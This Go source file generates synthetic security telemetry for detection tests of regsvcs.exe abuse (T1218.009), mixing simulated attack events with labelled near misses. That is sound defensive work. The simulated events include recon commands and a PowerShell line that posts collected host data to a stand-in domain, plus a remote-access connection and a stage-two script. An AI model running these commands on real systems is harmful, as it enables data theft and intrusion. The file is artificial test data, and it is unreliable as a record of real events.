package main

import "strings"

// regsvcsChildren is T1218.009: regsvcs.exe made to run programs, seen by
// Sysmon, by the Security log and, on the server, by CrowdStrike.
//
// The parent's name comes in three letter cases. The near misses are marked.
func regsvcsChildren() *dataset {
	d := newDataset("T1218.009", "2026-01-15", 1218009)
	d.from, d.to = d.at("08:03:11"), d.at("08:55:40.5")
	d.machines("2026-01-15T06:51:17.0934Z", &sensor{
		aid: "4f1c8a90d27e4b6ab3c5e1f7029d8466", computer: "APP-02.corp.example", last: 71_204_118_837,
	}, [2]uint32{0x05d2, 0x0192_7A30})
	d.wks.firstRecord = map[string]uint64{d.sysmon.name: 431950, d.security.name: 99704}
	d.app.firstRecord = map[string]uint64{d.sysmon.name: 2291044, d.security.name: 1863310}
	d.security.eol = "\r\n"

	d.ordinary(115, 14)
	d.helpdeskBuilds()
	d.helpdeskRunsRegsvcs()
	d.serverBuilds()
	d.serverRunsRegsvcs()
	d.privilegedCall(d.app.procs["lsass"], d.to, "LsaRegisterLogonProcess()", "SeTcbPrivilege", true)
	return d
}

const (
	net32   = `C:\Windows\Microsoft.NET\Framework\v4.0.30319\`
	conhost = `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`
)

// brief starts a process that ends after a second.
func (d *dataset) brief(parent *proc, clock, path, cmd string) *proc {
	p := d.start(parent, d.at(clock), launch{path: path, cmd: cmd})
	d.exit(p, after(p, 1000))
	return p
}

// helpdeskBuilds has the workstation's near misses.
func (d *dataset) helpdeskBuilds() {
	shell := d.start(d.wks.procs["explorer"], d.at("08:17:02.4410338"), launch{
		path: sysDir + "cmd.exe", cmd: `"C:\Windows\system32\cmd.exe" `, dir: `C:\Build\`,
	})
	d.wks.procs["shell"] = shell
	d.start(shell, d.at("08:17:02.4702119"), launch{path: sysDir + "conhost.exe", cmd: conhost})
	// near: the word
	d.brief(shell, "08:18:20.1180264", sysDir+"findstr.exe", `findstr  /i /s regsvcs.exe C:\Build\logs\*.log`)
	// near: the word
	d.brief(d.wks.procs["explorer"], "08:19:11.9023306", sysDir+"notepad.exe", `"C:\Windows\system32\NOTEPAD.EXE" C:\Users\helpdesk01\Documents\regsvcs.exe notes.txt`)

	regasm := d.brief(shell, "08:20:05.3340771", netDir+"RegAsm.exe", `RegAsm.exe /codebase C:\Build\out\Print.Plugin.dll`)
	d.load(regasm, after(regasm, 40), netDir+"clr.dll")
	d.brief(regasm, "08:20:05.6618040", sysDir+"cmd.exe", `cmd.exe /c dir C:\Build\out`) // near: regasm.exe is the parent

	wrapper := d.brief(shell, "08:21:30.7710025", `C:\Tools\wrapregsvcs.exe`, `C:\Tools\wrapregsvcs.exe --check Print.Plugin.dll`)
	d.brief(wrapper, "08:21:30.9127746", sysDir+"cmd.exe", `cmd.exe /c echo regsvcs.exe done`) // near: a longer name

	step := d.brief(shell, "08:22:12.0561190", `C:\Build\regsvcs.exe\publish.exe`, `C:\Build\regsvcs.exe\publish.exe`)
	d.brief(step, "08:22:12.3390417", sysDir+"ping.exe", `ping  -n 1 build.corp.example`) // near: a folder of that name
}

// helpdeskRunsRegsvcs is the workstation's part of the attack.
func (d *dataset) helpdeskRunsRegsvcs() {
	shell := d.wks.procs["shell"]
	p := d.start(shell, d.at("08:24:14.1270553"), launch{
		path: netDir + "RegSvcs.exe", cmd: `"` + netDir + `RegSvcs.exe" /u C:\Users\helpdesk01\Downloads\printfix.dll`,
	})
	d.load(p, after(p, 61), netDir+"clr.dll")
	d.load(p, after(p, 240), `C:\Users\helpdesk01\Downloads\printfix.dll`)

	// found
	cmd := d.brief(p, "08:24:15.2080419", sysDir+"cmd.exe", `cmd.exe /c whoami /all > C:\Users\Public\w.txt & hostname >> C:\Users\Public\w.txt`)
	d.brief(cmd, "08:24:15.2613780", sysDir+"whoami.exe", `whoami  /all`) // near: a grandchild
	d.brief(cmd, "08:24:15.5021117", sysDir+"hostname.exe", `hostname`)
	d.write(cmd, after(cmd, 50), `C:\Users\Public\w.txt`)

	upload := strings.Join([]string{
		`"` + psPath + `" -NoProfile -Command "& {`,
		`  $p = Get-Content C:\Users\Public\w.txt`,
		`  if ($p.Count -gt 0) { Invoke-WebRequest -Uri https://files.example.net/u -Method Post -Body $p }`,
		`}"`,
	}, "\n")
	ps := d.brief(p, "08:24:17.6550902", psPath, upload) // found; its command line spans lines
	d.ask(ps, after(ps, 480), query{"files.example.net", "", "198.51.100.201"})
	d.connect(ps, after(ps, 530), conn{"198.51.100.201", "-", 443})
	d.exit(p, d.at("08:24:19.0330628"))

	p = d.start(shell, d.at("08:31:40.4023186"), launch{path: net32 + "regsvcs.exe", cmd: `regsvcs.exe  C:\ProgramData\uxhelp.dll`})
	d.load(p, after(p, 120), `C:\ProgramData\uxhelp.dll`)
	remote := d.start(p, d.at("08:31:42.1184407"), launch{
		path: `C:\Program Files\Example Remote\exremote.exe`, cmd: `exremote.exe --connect 203.0.113.40:8443 --unattended`,
	}) // found; its path has a blank
	d.connect(remote, after(remote, 350), conn{"203.0.113.40", "-", 8443})
	d.exit(p, d.at("08:31:44.9007152"))
}

// serverBuilds has the server's near misses.
func (d *dataset) serverBuilds() {
	agent := d.app.procs["dagent"]
	worker := d.brief(agent, "08:37:44.2008811", `C:\Program Files\Example Deploy\dworker.exe`, `"C:\Program Files\Example Deploy\dworker.exe" --job comreg`)
	regasm := d.brief(worker, "08:37:44.3051960", netDir+"regasm.exe", `regasm.exe /unregister comreg.dll`)
	d.brief(regasm, "08:37:44.3390275", sysDir+"conhost.exe", conhost) // near: regasm.exe is the parent
	d.brief(regasm, "08:37:44.6140039", sysDir+"cmd.exe", `cmd.exe /c del "C:\ProgramData\Example Deploy\pkg\comreg.tlb"`)
	d.brief(worker, "08:39:02.1190583", netDir+"regsvcs.exe", `regsvcs.exe /appname:Deploy comreg.dll`) // near: a child without children
	undo := d.brief(agent, "08:40:10.5034412", sysDir+"cmd.exe", `cmd.exe /c echo regsvcs.exe /u comreg.dll > C:\ProgramData\undo.cmd & type C:\ProgramData\undo.cmd | find "/u"`)
	d.brief(undo, "08:40:10.6120948", sysDir+"find.exe", `find  "/u"`) // near: the word in the parent's command line
}

// serverRunsRegsvcs is the server's part of the attack.
func (d *dataset) serverRunsRegsvcs() {
	agent, asDeploy := d.app.procs["dagent"], d.app.sessions["deploy"]
	p := d.start(agent, d.at("08:36:20.1142206"), launch{
		path: netDir + "REGSVCS.EXE", cmd: `REGSVCS.EXE /quiet "C:\ProgramData\Example Deploy\pkg\comreg.dll"`, as: asDeploy,
	})
	// The same command twice; the second got the first one's process id, which was free again.
	for _, clock := range []string{"08:41:07.1180307", "08:41:48.4021193"} {
		// found
		cmd := d.start(p, d.at(clock), launch{path: sysDir + "cmd.exe", cmd: `cmd.exe /c ping -n 2 192.0.2.17 > nul`, pid: 13328})
		ping := d.start(cmd, after(cmd, 30), launch{path: sysDir + "ping.exe", cmd: `ping  -n 2 192.0.2.17`})
		d.exit(ping, after(ping, 1050))
		d.exit(cmd, after(cmd, 1100))
	}
	d.exit(p, d.at("08:42:30.2260914"))

	p = d.start(agent, d.at("08:45:10.2331045"), launch{path: netDir + "regsvcs.exe", cmd: netDir + `regsvcs.exe /reconfig comreg.dll`})
	ps := d.start(p, d.at("08:45:12.1870338"), launch{
		path: psPath, cmd: `powershell.exe -NonInteractive -File C:\ProgramData\stage2.ps1`, as: asDeploy,
	}) // found; for another account than the parent's
	d.load(ps, after(ps, 210), `C:\Windows\System32\amsi.dll`)
	d.ask(ps, after(ps, 700), query{"stage.example.org", "", "203.0.113.58"})
	d.connect(ps, after(ps, 760), conn{"203.0.113.58", "-", 443})
	d.exit(ps, after(ps, 5200))
	d.exit(p, after(p, 8000))

	p = d.brief(agent, "08:48:31.0641120", netDir+"RegSvcs.exe", netDir+`RegSvcs.exe /componly comreg.dll`)
	d.brief(p, "08:48:31.0903317", sysDir+"conhost.exe", conhost) // found, but not by Sysmon, which leaves it out
}
